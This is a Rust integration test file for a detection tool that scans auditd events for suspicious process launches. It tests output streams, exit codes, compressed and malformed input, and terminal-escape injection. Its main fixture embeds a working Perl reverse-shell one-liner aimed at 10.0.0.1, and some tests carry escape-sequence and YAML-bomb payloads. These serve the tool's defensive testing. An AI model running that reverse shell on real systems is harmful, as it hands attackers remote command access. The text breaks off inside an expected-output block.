//! The program as its users meet it: what goes to which stream, how it ends, and what hostile input does to it.

use std::collections::BTreeSet;
use std::fs;
use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use expect_test::expect;
use serde_json::Value;

/// A reverse shell in Perl, started by a process that is labelled `weblogic`; it carries no `success` and no `exe`.
pub(crate) const SEED: &str = r#"{"ID":"1626611363.720:348501","SYSCALL":{"PPID":{"EVENT_ID":"1626607554.859:32454","comm":"sh","exe":"/bin/sh"},"LABELS":["weblogic"]},"EXECVE":{"argc":3,"ARGV":["perl","-e","use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};"]}}"#;

/// An event that no rule minds.
const QUIET: &str = r#"{"ID":"1700000000.123:1","SYSCALL":{"success":"yes","syscall":59,"arch":"0xc000003e","exe":"/usr/bin/ls"},"EXECVE":{"argc":1,"ARGV":["ls"]}}"#;

/// A folder that goes away with the test.
pub(crate) struct Folder(tempfile::TempDir);

impl Folder {
    pub(crate) fn new() -> Self {
        Self(tempfile::tempdir().expect("a folder for the test"))
    }

    pub(crate) fn write(&self, name: &str, bytes: impl AsRef<[u8]>) -> String {
        let path = self.path(name);
        fs::write(&path, bytes).expect("a file for the test");
        path
    }

    pub(crate) fn path(&self, name: &str) -> String {
        let path = self.0.path().join(name);
        path.to_str().expect("UTF-8").to_owned()
    }
}

/// How a run ended, and what it printed.
#[derive(Debug)]
pub(crate) struct Ran {
    pub(crate) code: Option<i32>,
    pub(crate) out: String,
    pub(crate) err: String,
}

pub(crate) fn pythia(arguments: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_pythia"));
    for (name, _) in std::env::vars_os() {
        if name.to_string_lossy().starts_with("PYTHIA_") {
            command.env_remove(name);
        }
    }
    // No test needs the port of the metrics, and two at once would fight for it.
    command.env("PYTHIA__HTTP__LISTEN", "");
    command.args(arguments).stdin(Stdio::null());
    command
}

pub(crate) fn ran(command: &mut Command) -> Ran {
    let output = command.output().expect("pythia runs");
    Ran {
        code: output.status.code(),
        out: String::from_utf8(output.stdout).expect("stdout is UTF-8"),
        err: String::from_utf8(output.stderr).expect("stderr is UTF-8"),
    }
}

pub(crate) fn run(arguments: &[&str]) -> Ran {
    ran(&mut pythia(arguments))
}

/// Runs with this on stdin.
fn fed(arguments: &[&str], stdin: &[u8]) -> Ran {
    let mut child = pythia(arguments)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("pythia runs");
    let mut pipe = child.stdin.take().expect("a pipe");
    pipe.write_all(stdin).expect("pythia reads stdin");
    drop(pipe);
    let output = child.wait_with_output().expect("pythia ends");
    Ran {
        code: output.status.code(),
        out: String::from_utf8(output.stdout).expect("stdout is UTF-8"),
        err: String::from_utf8(output.stderr).expect("stderr is UTF-8"),
    }
}

fn alerts(out: &str) -> Vec<Value> {
    out.lines()
        .map(|line| serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line}")))
        .collect()
}

/// Alerts without what tells one file and line from another.
fn without_source(out: &str) -> Vec<Value> {
    let mut alerts = alerts(out);
    for alert in &mut alerts {
        alert["source"] = Value::Null;
    }
    alerts
}

/// The numbers of the summary: `lines = evaluated + dead letters + blank`.
fn sums(err: &str) -> [u64; 4] {
    let line = err
        .lines()
        .find(|line| line.contains(" evaluated + "))
        .unwrap_or_else(|| panic!("no summary in {err}"));
    let numbers: Vec<u64> = line
        .split(' ')
        .filter_map(|word| word.parse().ok())
        .collect();
    numbers.try_into().unwrap_or_else(|_| panic!("{line}"))
}

/// What a terminal would act on, or what hides or turns text.
pub(crate) fn steers(text: &str) -> bool {
    text.chars().any(|c| {
        (c.is_control() && c != '\n') || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    })
}

#[test]
fn the_seed_event_alerts_with_argument_parent_label_and_raw_line() {
    let ran = fed(&["scan", "--output", "jsonl", "-"], SEED.as_bytes());
    assert_eq!(ran.code, Some(0));
    let alerts = alerts(&ran.out);
    let alert = alerts
        .iter()
        .find(|alert| alert["rule"]["title"] == "Perl One-Liner Opens a Network Shell")
        .expect("the reverse shell alerts");
    assert_eq!(alert["event"], SEED);
    assert_eq!(alert["process"]["parent"]["exe"], "/bin/sh");
    assert_eq!(alert["process"]["labels"], serde_json::json!(["weblogic"]));
    let socket = &alert["why"][0]["selections"][2];
    assert_eq!(socket["name"], "socket");
    assert_eq!(socket["matches"][0]["path"], "EXECVE.ARGV[2]");
    assert_eq!(socket["matches"][0]["matcher"], "contains 'use Socket'");
}

#[test]
fn jsonl_is_pure_json_is_one_document_and_a_table_is_text() {
    let folder = Folder::new();
    let file = folder.write("a.jsonl", format!("{SEED}\n\nnonsense\n{SEED}"));
    let jsonl = run(&["scan", "--output", "jsonl", &file]);
    assert_eq!(alerts(&jsonl.out).len(), 4);
    assert_eq!(sums(&jsonl.err), [4, 2, 1, 1]);
    // Into a pipe it is the default.
    assert_eq!(run(&["scan", &file]).out, jsonl.out);
    let json = run(&["scan", "--output", "json", &file]);
    let document: Vec<Value> = serde_json::from_str(&json.out).expect("one document");
    assert_eq!(document, alerts(&jsonl.out));
    let table = run(&["scan", "--output", "table", &file]);
    assert_eq!(table.out.matches("Perl One-Liner").count(), 2);
    let quiet = run(&["scan", "--quiet", "--output", "jsonl", &file]);
    assert_eq!((quiet.out, quiet.err.as_str()), (jsonl.out, ""));
    let nothing = fed(&["scan", "--output", "json", "-"], b"");
    assert_eq!(nothing.out, "[]\n");
}

#[test]
fn the_profile_of_rules_tells_what_each_costs_and_gives_and_changes_no_alert() {
    // Few rules, so that the table shows them all.
    let mut scan = vec!["scan", "-q", "--host", "web-01"];
    for folder in [
        "rules/linux/kernel",
        "rules/linux/reverse_shell",
        "rules/linux/web_server",
    ] {
        scan.extend(["--rules", folder]);
    }
    scan.push("tests/data/fleet.jsonl.zst");
    let plain = run(&scan);
    scan.push("--profile-rules");
    let ran = run(&scan);
    assert_eq!((ran.code, ran.out), (Some(0), plain.out));
    let mut lines = ran.err.lines();
    let sample = lines.next().unwrap_or_default();
    let numbers = sample
        .split(' ')
        .filter_map(|word| word.parse::<u32>().ok());
    // One in 128, without those that had to wait for a processor.
    assert!(numbers.sum::<u32>() > 10, "{sample}");
    let columns: Vec<&str> = lines
        .next()
        .unwrap_or_default()
        .split_whitespace()
        .collect();
    expect!["share rule candidates verifications hits last hit witness"]
        .assert_eq(&columns.join(" "));
    // What depends on the clock is the share, and so the order.
    let rows = lines.filter_map(|line| line.split_once('%'));
    let rows: Vec<(f64, String)> = rows
        .map(|(share, rest)| {
            let words: Vec<&str> = rest.split_whitespace().collect();
            (share.parse().expect("a number"), words.join(" "))
        })
        .collect();
    assert!(rows.is_sorted_by(|a, b| a.0 >= b.0), "{}", ran.err);
    let whole: f64 = rows.iter().map(|(share, _)| share).sum();
    assert!((98.0..102.0).contains(&whole), "{}", ran.err);
    for row in [
        "(decoding) - - - - -",
        "(looking for candidates) - - - - -",
        "(what alerts of an event share) - - - - -",
        "Web Server User Starts a Shell That Waits for Commands 230 230 3 2026-11-23T08:04:16Z yes",
        "Kernel Module Loaded from an Unusual Place 1 1 0 - yes",
    ] {
        assert!(
            rows.iter().any(|(_, told)| told == row),
            "{row} in {}",
            ran.err
        );
    }
    assert!(
        ran.err.ends_with("\n4 rules never looked at\n"),
        "{}",
        ran.err
    );
}

#[test]
fn alerts_stay_byte_for_byte_whatever_optimisation_is_switched_off() {
    let scan = |without: &[&str]| {
        let mut arguments = vec![
            "scan",
            "-q",
            "--host",
            "web-01",
            "tests/data/fleet.jsonl.zst",
        ];
        arguments.extend(without.iter().flat_map(|name| ["--without", name]));
        let ran = run(&arguments);
        assert_eq!((ran.code, &*ran.err), (Some(0), ""), "{without:?}");
        ran.out
    };
    let names = detect::Options::NAMES;
    let page = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("CONTRIBUTING.md"));
    let page = page.expect("it is there");
    let alerts = scan(&[]);
    assert!(alerts.lines().count() > 10);
    for name in names {
        assert!(scan(&[name]) == alerts, "{name}");
        assert!(
            page.contains(&format!("`{name}`")),
            "CONTRIBUTING.md does not name {name}"
        );
    }
    assert!(scan(&names) == alerts, "all off");
    let unknown = run(&["scan", "--without", "nothing", "-"]);
    assert_eq!(unknown.code, Some(2));
    assert!(!run(&["scan", "--help"]).out.contains("--without"));
    // It reaches the plan: regular expressions give no literals any more.
    let warnings = |without: &[&str]| {
        let arguments = [&["check", "--output", "json", "rules"], without].concat();
        let report: Value = serde_json::from_str(&run(&arguments).out).expect("JSON");
        report["totals"]["warnings"].as_u64()
    };
    assert_eq!(warnings(&[]), Some(0));
    assert!(warnings(&["--without", "required_literals"]) > Some(0));
}

/// Rules that must be verified on every view, and one that needs not.
#[test]
fn check_names_rules_without_a_witness_with_place_cost_and_cure() {
    let folder = Folder::new();
    let rule = |title: &str, source: &str, detection: &str| {
        format!(
            "title: {title}\nlogsource: {{product: linux, {source}}}\ndetection:\n{detection}\n"
        )
    };
    let process = "category: process_creation";
    folder.write(
        "a-no-literal.yml",
        rule("A", process, "  shell: {Image|endswith: /sh}\n  odd: {CommandLine|re: '[xyz]{12}'}\n  condition: shell or odd"),
    );
    folder.write(
        "b-found.yml",
        rule("B", process, "  shell: {Image|endswith: /sh}\n  odd: {CommandLine|re: '[xyz]{12}'}\n  condition: shell and odd"),
    );
    folder.write(
        "c-negated.yml",
        rule("C", "service: auditd", "  path: {type: PATH}\n  known: {name|startswith: /usr/}\n  condition: path and not known"),
    );
    let ran = run(&["check", "--output", "table", &folder.path("")]);
    assert_eq!(ran.code, Some(0));
    let shown = ran.out.replace(&folder.path(""), "");
    let (shown, _) = shown.split_once("Running").expect("what runs");
    expect![[r"
        warning[P002]: no two fixed characters in a row stand in every match of this regular expression, so it is verified on every view of process_creation: one for each program that starts
         --> a-no-literal.yml:5:25
          |
        5 |   odd: {CommandLine|re: '[xyz]{12}'}
          |                         ^^^^^^^^^^^
          |
          = help: add what every match must contain, such as a program's name or a piece of an argument: a value outside of `not`, or in a regular expression two fixed characters in a row; `pythia scan --profile-rules` measures what the rule costs

        warning[P002]: the rule may match where none of its literals stands, so it is verified on every view of auditd: one for each path (PATH; two or three where a program starts)
         --> c-negated.yml:4:3
          |
        4 |   path: {type: PATH}
          |   ^^^^
          |
          = help: add what every match must contain, such as a program's name or a piece of an argument: a value outside of `not`, or in a regular expression two fixed characters in a row; `pythia scan --profile-rules` measures what the rule costs

    "]].assert_eq(shown);
    let strict = run(&["check", "--strict", &folder.path("")]);
    assert_eq!(strict.code, Some(1));
}

#[test]
fn exit_codes_tell_findings_usage_and_faults_apart() {
    let folder = Folder::new();
    let seed = folder.write("seed.jsonl", SEED);
    let quiet = folder.write("quiet.jsonl", QUIET);
    let bad_rule = folder.write("bad.yml", "title: x\n");
    let empty = folder.path("empty");
    fs::create_dir(&empty).expect("a folder");
    let missing = folder.path("missing");
    let cases: &[(i32, &[&str])] = &[
        (0, &["scan", &seed]),
        (0, &["scan", "--fail-on-match", &quiet]),
        (0, &["check"]),
        (0, &["config", "show"]),
        (0, &["config", "example"]),
        (0, &["policy"]),
        (0, &["completions", "bash"]),
        (0, &["man"]),
        (0, &["man", "scan"]),
        (0, &["--help"]),
        (0, &["--version"]),
        (1, &["scan", "--fail-on-match", &seed]),
        (1, &["check", &bad_rule]),
        (2, &[]),
        (2, &["bogus"]),
        (2, &["man", "bogus"]),
        (2, &["scan"]),
        (2, &["scan", "--bogus", &seed]),
        (2, &["scan", "--output", "xml", &seed]),
        (2, &["scan", "--rules", &missing, &seed]),
        (2, &["scan", "--rules", &bad_rule, &seed]),
        (2, &["scan", "--config", &missing, &seed]),
        (2, &["scan", "-", "-"]),
        (2, &["scan", "--dead-letters", &seed, &seed]),
        (2, &["check", &missing]),
        (2, &["check", &empty]),
        (2, &["config", "show", "--config", &empty]),
        (2, &["run"]),
        (3, &["scan", &missing]),
        (3, &["scan", &empty]),
        (3, &["scan", "--fail-on-match", &seed, &missing]),
        (3, &["scan", "--dead-letters", &empty, &seed]),
    ];
    for (code, arguments) in cases {
        let ran = run(arguments);
        assert_eq!(ran.code, Some(*code), "{arguments:?}: {}", ran.err);
        assert!(*code != 2 || ran.out.is_empty(), "{arguments:?}");
        assert!(*code < 2 || !ran.err.is_empty(), "{arguments:?}");
    }
    // Nothing was overwritten.
    assert_eq!(fs::read_to_string(&seed).expect("still there"), SEED);
}

#[test]
fn every_help_text_has_examples_that_parse() {
    for command in [
        "demo",
        "run",
        "scan",
        "check",
        "policy",
        "config",
        "completions",
        "man",
        "",
    ] {
        let arguments: &[&str] = if command.is_empty() {
            &["--help"]
        } else {
            &[command, "--help"]
        };
        let help = run(arguments);
        assert_eq!(help.code, Some(0));
        let (_, examples) = help
            .out
            .split_once("Examples:")
            .unwrap_or_else(|| panic!("{}", help.out));
        let examples: Vec<&str> = examples
            .lines()
            .filter(|line| line.contains("pythia "))
            .collect();
        assert!(examples.len() > 1, "{command}");
        for flag in examples
            .iter()
            .flat_map(|line| line.split(' '))
            .filter(|word| word.starts_with("--"))
        {
            assert!(
                help.out
                    .split("Examples:")
                    .next()
                    .unwrap_or_default()
                    .contains(flag),
                "{command} {flag}"
            );
        }
    }
}

#[test]
fn the_policy_is_printed_a_line_a_point_and_as_json() {
    let text = run(&["policy", "--output", "table"]).out;
    let points = sigma::policy();
    assert_eq!(text.lines().count(), points.len() + 1);
    let rows = text.lines().skip(1).zip(&points);
    for (row, point) in rows {
        assert!(
            row.starts_with(&point.id) && row.ends_with(&point.pythia),
            "{row}"
        );
    }
    let json = run(&["policy", "--output", "json"]).out;
    let json: Value = serde_json::from_str(&json).expect("JSON");
    let listed = json.as_array().expect("a list");
    assert_eq!(listed.len(), points.len());
    for (listed, point) in listed.iter().zip(&points) {
        assert_eq!(listed["id"], point.id.as_str());
        assert_eq!(listed["point"], point.point.as_str());
        assert_eq!(listed["pythia"], point.pythia.as_str());
        assert_eq!(listed["disputed"], point.disputed);
    }
    let lines = run(&["policy", "--output", "jsonl"]).out;
    assert_eq!(alerts(&lines), *listed);
}

#[test]
fn packed_files_give_what_plain_ones_give() {
    let folder = Folder::new();
    let text = format!("{SEED}\n{QUIET}\n").repeat(40);
    let plain = folder.write("plain", &text);
    let gz = |text: &str| {
        let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        packer.write_all(text.as_bytes()).expect("into memory");
        packer.finish().expect("into memory")
    };
    let zst = |text: &str| zstd::encode_all(text.as_bytes(), 1).expect("into memory");
    // What pzstd begins each piece with: a frame to be skipped, of four bytes, the length of the next one.
    let parallel = |text: &str| {
        let frame = zst(text);
        let length = u32::try_from(frame.len()).expect("it is short");
        let skipped = [0x184d_2a50_u32, 4, length].map(u32::to_le_bytes);
        [skipped.concat(), frame].concat()
    };
    // Rotated and concatenated files have many members.
    let (head, tail) = text.split_at(text.len() / 2 + 7);
    let packed = [
        folder.write("one.gz", gz(&text)),
        folder.write("two.gz", [gz(head), gz(tail)].concat()),
        folder.write("one.zst", zst(&text)),
        folder.write("two.zst", [zst(head), zst(tail)].concat()),
        folder.write("parallel.zst", [parallel(head), parallel(tail)].concat()),
        folder.write("misnamed.txt", zst(&text)),
    ];
    let expected = run(&["scan", &plain]);
    assert_eq!(alerts(&expected.out).len(), 80);
    for file in &packed {
        let ran = run(&["scan", file]);
        assert_eq!(ran.code, Some(0), "{}", ran.err);
        assert_eq!(
            without_source(&ran.out),
            without_source(&expected.out),
            "{file}"
        );
        let piped = fed(&["scan", "-"], &fs::read(file).expect("there"));
        assert_eq!(
            without_source(&piped.out),
            without_source(&expected.out),
            "{file}"
        );
    }
    // What is cut off is no quiet end.
    for (name, bytes) in [("cut.gz", gz(&text)), ("cut.zst", zst(&text))] {
        let cut = folder.write(name, &bytes[..bytes.len() - 20]);
        let ran = run(&["scan", &plain, &cut]);
        assert_eq!(ran.code, Some(3), "{name}");
        assert!(
            ran.err.contains("not everything was read") && ran.err.contains(name),
            "{}",
            ran.err
        );
    }
}

/// Inputs that are no events, each with what becomes of it.
fn hostile() -> Vec<(&'static str, Vec<u8>, [u64; 4])> {
    let seed = SEED.as_bytes();
    let mut state = 1_u64;
    let noise: Vec<u8> = std::iter::repeat_with(|| {
        state = state
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        (state >> 33).to_le_bytes()[0]
    })
    .take(1_000_000)
    .collect();
    let noise_lines = noise.split(|byte| *byte == b'\n');
    let blank = noise_lines
        .clone()
        .filter(|line| line.trim_ascii().is_empty())
        .count() as u64;
    let noise_lines = noise_lines.count() as u64;
    let cut: Vec<u8> = (1..seed.len())
        .flat_map(|end| [&seed[..end], b"\n"].concat())
        .collect();
    let deep = format!(
        "{{\"ID\":\"1.000:1\",\"A\":{}{}}}\n{}\n",
        "[".repeat(10_000),
        "]".repeat(10_000),
        "[".repeat(10_000)
    );
    let long = |n: usize| SEED.replace("\"-e\"", &format!("\"-e\",\"{}\"", "A".repeat(n)));
    vec![
        ("noise", noise, [noise_lines, 0, noise_lines - blank, blank]),
        (
            "cut",
            cut,
            [seed.len() as u64 - 1, 0, seed.len() as u64 - 1, 0],
        ),
        ("deep", deep.into_bytes(), [2, 0, 2, 0]),
        ("3 MB", long(3_000_000).into_bytes(), [1, 1, 0, 0]),
        (
            "9 MiB",
            format!("{}\n{SEED}", long(9 << 20)).into_bytes(),
            [2, 1, 1, 0],
        ),
        (
            "no UTF-8",
            [&seed[..100], b"\xff\xfe", &seed[100..]].concat(),
            [1, 0, 1, 0],
        ),
        (
            "NUL",
            [
                &b"\0"[..],
                seed,
                b"\n\0\0\0\n",
                &seed[..100],
                b"\0",
                &seed[100..],
                b"\n",
                seed,
            ]
            .concat(),
            [4, 2, 2, 0],
        ),
        (
            "doubled keys",
            SEED.replace("\"argc\":3", "\"argc\":1,\"argc\":3")
                .into_bytes(),
            [1, 1, 0, 0],
        ),
        (
            "CRLF",
            format!("{SEED}\r\n\r\n{SEED}\r\n").into_bytes(),
            [3, 2, 0, 1],
        ),
        ("nothing", Vec::new(), [0, 0, 0, 0]),
        ("blanks", b"\n \n\t\n".to_vec(), [3, 0, 0, 3]),
        (
            "no events",
            b"{}\n[]\n1\nnull\n\"x\"\n{\"ID\":1}\n".to_vec(),
            [6, 0, 6, 0],
        ),
    ]
}

#[test]
fn hostile_lines_end_as_dead_letters_and_every_line_is_accounted_for() {
    let folder = Folder::new();
    let letters = folder.path("letters");
    for (name, bytes, expected) in hostile() {
        let file = folder.write("input", &bytes);
        let ran = run(&["scan", "--dead-letters", &letters, &file]);
        assert_eq!(ran.code, Some(0), "{name}: {}", ran.err);
        let [lines, evaluated, dead, blank] = sums(&ran.err);
        assert_eq!(
            [lines, evaluated, dead, blank],
            expected,
            "{name}: {}",
            ran.err
        );
        assert_eq!(lines, evaluated + dead + blank);
        // Each reason is counted, and together they are the dead letters.
        let by_reason: u64 = ran
            .err
            .lines()
            .filter_map(|line| {
                line.strip_prefix("  dead letter ")?
                    .rsplit_once(": ")?
                    .1
                    .parse::<u64>()
                    .ok()
            })
            .sum();
        assert_eq!(by_reason, dead, "{name}: {}", ran.err);
        alerts(&ran.out);
        // The dead letters give back the bytes of their lines.
        let input: Vec<&[u8]> = bytes.split(|byte| *byte == b'\n').collect();
        let written = fs::read_to_string(&letters).expect("written");
        assert_eq!(written.lines().count() as u64, dead, "{name}");
        for letter in alerts(&written) {
            let number = usize::try_from(letter["line"].as_u64().expect("a line")).expect("fits");
            let original = input[number - 1];
            assert_eq!(
                letter["bytes"].as_u64(),
                Some(original.len() as u64),
                "{name}"
            );
            let kept = match letter["text"].as_str() {
                Some(text) => text.as_bytes().to_vec(),
                None => unhex(letter["hex"].as_str().expect("text or hex")),
            };
            if letter["reason"] == "oversize" {
                assert!(
                    original.starts_with(&kept) && kept.len() == 8 << 20,
                    "{name}"
                );
            } else {
                assert!(kept == original, "{name}");
            }
        }
    }
}

fn unhex(text: &str) -> Vec<u8> {
    let digit = |c: u8| (c as char).to_digit(16).expect("a hex digit");
    text.as_bytes()
        .chunks(2)
        .map(|pair| u8::try_from(digit(pair[0]) * 16 + digit(pair[1])).expect("a byte"))
        .collect()
}

#[test]
fn a_closed_pipe_ends_quietly_and_a_full_disk_does_not() {
    let folder = Folder::new();
    let file = folder.write("many.jsonl", format!("{SEED}\n").repeat(2_000));
    for (flag, code) in [("--output=jsonl", 0), ("--fail-on-match", 1)] {
        let mut child = pythia(&["scan", flag, &file])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("pythia runs");
        let mut first = [0; 100];
        let mut pipe = child.stdout.take().expect("a pipe");
        pipe.read_exact(&mut first).expect("the first alert");
        drop(pipe);
        let output = child.wait_with_output().expect("pythia ends");
        assert_eq!(output.status.code(), Some(code), "{flag}");
        assert_eq!(String::from_utf8_lossy(&output.stderr), "");
    }
    if !Path::new("/dev/full").exists() {
        return;
    }
    for arguments in [
        &["scan", "--output", "jsonl", &file][..],
        &["scan", "--output", "json", &file],
        &["scan", "--output", "table", &file],
        &["check"],
        &["config", "show"],
        &["config", "example"],
        &["man"],
    ] {
        let full = fs::OpenOptions::new()
            .write(true)
            .open("/dev/full")
            .expect("a device");
        let ran = ran(pythia(arguments).stdout(full));
        assert_eq!(ran.code, Some(3), "{arguments:?}");
        assert!(
            ran.err.contains("standard output cannot be written"),
            "{arguments:?}: {}",
            ran.err
        );
    }
}

/// The disk of the service's log is full, or whoever read it has gone.
#[test]
fn a_log_that_cannot_be_written_does_not_end_the_service() {
    if !Path::new("/dev/full").exists() {
        return;
    }
    for format in ["human", "json"] {
        let full = fs::OpenOptions::new().write(true).open("/dev/full");
        let port = TcpListener::bind("127.0.0.1:0").and_then(|listener| listener.local_addr());
        let listen = port.expect("a free port").to_string();
        let mut service = pythia(&["run", "--brokers", "127.0.0.1:1"])
            .env("PYTHIA__HTTP__LISTEN", &listen)
            .env("PYTHIA__LOG__FORMAT", format)
            .stderr(full.expect("a device"))
            .spawn()
            .expect("pythia runs");
        let deadline = Instant::now() + Duration::from_secs(30);
        let mut complained = false;
        while !complained {
            assert!(Instant::now() < deadline, "{format}: no complaint counts");
            let ended = service.try_wait().expect("a child of ours");
            assert_eq!(ended, None, "{format}");
            std::thread::sleep(Duration::from_millis(20));
            complained = metrics(&listen).is_some_and(|text| {
                let mut lines = text.lines();
                lines.any(|line| line.starts_with("pythia_kafka_client_errors_total{"))
            });
        }
        let pid = service.id().to_string();
        let sent = Command::new("kill").args(["-TERM", &pid]).status();
        assert!(sent.expect("kill runs").success());
        let ended = service.wait().expect("a child of ours");
        assert_eq!(ended.code(), Some(0), "{format}");
    }
}

/// The text of `/metrics`, once it is there.
fn metrics(listen: &str) -> Option<String> {
    let mut stream = TcpStream::connect(listen).ok()?;
    let request = "GET /metrics HTTP/1.1\r\nHost: pythia\r\nConnection: close\r\n\r\n";
    stream.write_all(request.as_bytes()).ok()?;
    let mut answer = String::new();
    stream.read_to_string(&mut answer).ok()?;
    Some(answer)
}

#[test]
fn nothing_that_a_stranger_writes_steers_the_terminal() {
    let folder = Folder::new();
    let event = SEED
        .replace("\"perl\"", r#""perl\u001b[31m\u202e\u0007\u009b""#)
        .replace("weblogic", r"web\u001b]0;x\u0007\u200b")
        .replace("/bin/sh\"}", "/bin/\u{1b}[2J\u{2066}sh\"}");
    let event = event.replace('\u{1b}', "\\u001b");
    let file = folder.write(
        "ev\u{1b}[31mil\u{202e}.jsonl",
        format!("{event}\nnonsense\n"),
    );
    let rule = "title: \"A\\e[31m\\u202eB\"\nid: \"x\\e[1m\"\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel: {CommandLine|contains: perl}\n  condition: sel\n";
    let rules = folder.write("ru\u{1b}[31mle\u{202e}.yml", rule);
    let broken = folder.write(
        "br\u{1b}[31mo\u{202e}.yml",
        rule.replace("contains", "cont\u{202e}ains")
            .replace("sel\n", "nosuch\n"),
    );
    let missing = folder.path("no\u{1b}[31m\u{202e}");
    for arguments in [
        &[
            "scan",
            "--output",
            "table",
            "--rules",
            &rules,
            "--host",
            "h\u{1b}[31m",
            &file,
        ][..],
        &[
            "scan", "--output", "jsonl", "--rules", &rules, "--rules", &broken, &file, &missing,
        ],
        &["check", "--output", "table", "-v", &rules, &broken],
        &["check", "--output", "table", &missing],
        &["check", "--config", &missing],
        &["run", "--config", &missing],
        &["scan", "-", "--dead-letters", &missing, "--bogus\u{1b}[31m"],
    ] {
        let ran = run(arguments);
        let jsonl = arguments.contains(&"jsonl");
        assert!(!steers(&ran.err), "{arguments:?}: {:?}", ran.err);
        assert!(jsonl || !steers(&ran.out), "{arguments:?}: {:?}", ran.out);
    }
}

#[test]
fn check_shows_all_mistakes_of_all_files() {
    let folder = Folder::new();
    let rule = |detection: &str| {
        format!(
            "title: T\nlogsource: {{product: linux, category: process_creation}}\ndetection:\n{detection}\n"
        )
    };
    folder.write(
        "a-good.yml",
        rule("  sel: {Image: /bin/x}\n  condition: sel"),
    );
    folder.write(
        "b-modifier.yml",
        rule("  sel: {Image|contians: x}\n  condition: sell"),
    );
    folder.write(
        "c-regex.yaml",
        rule("  sel: {Image|re: '(('}\n  condition: sel"),
    );
    folder.write("d-syntax.yml", "[[[");
    folder.write("e-latin1.yml", b"title: caf\xe9\n");
    folder.write(
        "f-bomb.yml",
        format!(
            "a: &a [{0}]\nb: &b [{1}]\nc: &c [{2}]\nd: [{3}]\n",
            ["x"; 99].join(","),
            ["*a"; 99].join(","),
            ["*b"; 99].join(","),
            ["*c"; 99].join(",")
        ),
    );
    folder.write("g-deep.yml", format!("a: {}", "[".repeat(5_000)));
    folder.write("h-empty.yml", "");
    folder.write("ignored.test.yml", "[[[");
    folder.write("ignored.txt", "[[[");
    let ran = run(&["check", "--output", "json", &folder.path("")]);
    assert_eq!(ran.code, Some(1));
    let report: Value = serde_json::from_str(&ran.out).expect("JSON");
    let shown: Vec<String> = report["diagnostics"]
        .as_array()
        .expect("a list")
        .iter()
        .map(|d| {
            let file = d["file"].as_str().expect("a file");
            let file = file.rsplit('/').next().unwrap_or_default();
            format!(
                "{file}:{}:{} {}\n",
                d["line"],
                d["column"],
                d["code"].as_str().expect("a code")
            )
        })
        .collect();
    expect![[r"
        b-modifier.yml:4:15 R034
        b-modifier.yml:5:14 R052
        c-regex.yaml:4:21 R037
        d-syntax.yml:1:4 R001
        e-latin1.yml:1:11 R001
        f-bomb.yml:3:20 R002
        g-deep.yml:1:259 R001
    "]]
    .assert_eq(&shown.concat());
    expect![[r#"{"errors":7,"failed":6,"files":8,"linux":{"listed":0,"loaded":1,"routed":1,"running":1},"loaded":1,"not_running":0,"rejected":0,"running":1,"warnings":0}"#]].assert_eq(&report["totals"].to_string());
}

#[test]
fn check_ends_on_circles_of_links_and_endless_files() {
    let folder = Folder::new();
    folder.write(
        "a.yml",
        "title: T\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel: {Image: /bin/x}\n  condition: sel\n",
    );
    for name in ["one", "two"] {
        std::os::unix::fs::symlink(".", folder.path(name)).expect("a link");
    }
    let ran = run(&["check", "--output", "table", &folder.path("")]);
    assert_eq!(ran.code, Some(0));
    assert!(ran.out.contains("1 file: 1 rule loaded"), "{}", ran.out);
    let ran = run(&["check", "--output", "table", "/dev/zero"]);
    assert_eq!(ran.code, Some(1));
    assert!(
        ran.out.contains("error[R002]"),
        "{}",
        ran.out.get(..300).unwrap_or(&ran.out)
    );
}

#[test]
fn the_demo_alerts_without_a_terminal_and_ends_by_itself() {
    let ran = run(&["demo", "--quiet", "--seconds", "2", "--output", "jsonl"]);
    assert_eq!((ran.code, ran.err.as_str()), (Some(0), ""));
    let alerts = alerts(&ran.out);
    let hosts: BTreeSet<&str> = alerts
        .iter()
        .filter_map(|alert| alert["host"].as_str())
        .collect();
    assert!(hosts.len() > 1, "{hosts:?}");
}

#[test]
fn every_mistake_of_the_configuration_is_listed_at_once_and_no_secret() {
    let folder = Folder::new();
    let file = folder.write(
        "pythia.toml",
        "[kafka]\ngruop = \"x\"\nstart = \"erliest\"\ndelivery = \"exactly_once\"\n\
         [kafka.security]\nprotocol = \"sasl_ssl\"\npasswrd = \"hunter2\"\npassword = [\"hunter2\"]\n\
         [kafka.librdkafka]\n\"enable.auto.commit\" = true\n\"sasl.password\" = \"hunter2\"\n\
         [engine]\nthreads = \"many\"\n[source]\nhost_pointer = \"host\"\n[source.users]\nabc = \"x\"\n\
         [http]\nlisten = \"localhost:1\"\n[limits]\nwhy_bytes = \"1B\"\n[log]\nlevel = \"a==b\"\n",
    );
    let ran = ran(pythia(&["run", "--config", &file, "--group", ""])
        .env("PYTHIA__LOG__FORMAT", "xml")
        .env("PYTHIA__NO__SUCH", "hunter2")
        .env("PYTHIA__KAFKA", "x"));
    assert_eq!((ran.code, ran.out.as_str()), (Some(2), ""));
    let place = folder.path("");
    expect![[r#"
        error: 19 mistakes in the configuration
        default: kafka.brokers: is missing
          help: write [kafka] brokers = ["host:9092"], set PYTHIA__KAFKA__BROKERS, or use --brokers
        default: kafka.security.mechanism: is missing
          help: sasl needs PLAIN, SCRAM-SHA-256 or SCRAM-SHA-512
        default: kafka.security.username: is missing
          help: sasl needs a name
        pythia.toml: engine.threads: "many" is no whole number
          help: write a number from 0 to 1024
        pythia.toml: http.listen: "localhost:1" is no address
